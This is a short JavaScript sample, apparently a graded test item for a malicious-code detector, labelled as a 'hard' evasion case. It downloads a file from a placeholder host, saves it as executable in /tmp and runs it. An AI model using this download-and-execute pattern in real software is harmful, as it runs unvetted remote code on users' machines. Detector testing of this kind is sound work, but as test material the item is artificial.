// evasion: downloads a file then execFile
// grade: hard; does: download-exec
const fs = require("fs");
const { execFileSync } = require("child_process");
fetch("https://x.example/a").then((r) => r.arrayBuffer()).then((b) => {
  fs.writeFileSync("/tmp/a", Buffer.from(b), { mode: 0o755 });
  execFileSync("/tmp/a");
});
